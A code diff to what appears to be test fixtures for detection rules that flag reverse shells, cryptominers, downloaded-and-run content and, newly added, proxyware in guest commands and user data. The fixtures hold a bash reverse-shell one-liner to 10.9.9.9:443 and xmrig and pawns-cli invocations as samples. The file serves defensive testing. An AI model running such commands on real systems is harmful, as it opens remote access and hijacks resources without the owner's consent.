@@ -60,6 +60,8 @@ final class GuestRows {
             List.of("bash", "-c", "bash -i >& /dev/tcp/10.9.9.9/443 0>&1"), List.of("bash", "-c", "bash -i"), "");
     private static final Example MINER =
             new Example(List.of("xmrig", "--threads", "2"), List.of("rig", "--threads", "2"), "");
+    private static final Example PROXYWARE =
+            new Example(List.of("pawns-cli", "-accept-tos"), List.of("pawn-cli", "-accept-tos"), "");
     private static final Example BLOCKED =
             new Example(List.of("fetcher", "http://10.9.9.9/x"), List.of("fetcher", "http://10.9.8.9/x"), BLOCKING);
 
@@ -69,12 +71,14 @@ final class GuestRows {
                 command("AN0692.4 downloaded content executed", DOWNLOAD).silencedBy(APPROVED, ALMOST_APPROVED),
                 command("AN0692.4 reverse shell opened", REVERSE_SHELL),
                 command("AN0692.4 known miner executed", MINER),
+                command("AN0692.4 known proxyware executed", PROXYWARE),
                 command("AN0692.4 command names a blocked destination", BLOCKED)
                         .silencedBy(ALMOST_BLOCKING, BLOCKING_TOO),
                 outbound(userData("AN0692.4 user data downloads with a listed binary", OUTBOUND)),
                 userData("AN0692.4 user data runs what it downloads", DOWNLOAD).silencedBy(APPROVED, ALMOST_APPROVED),
                 userData("AN0692.4 user data opens a reverse shell", REVERSE_SHELL),
                 userData("AN0692.4 user data runs a known miner", MINER),
+                userData("AN0692.4 user data runs known proxyware", PROXYWARE),
                 userData("AN0692.4 user data names a blocked destination", BLOCKED)
                         .silencedBy(ALMOST_BLOCKING, BLOCKING_TOO),
                 minerInOutput(),
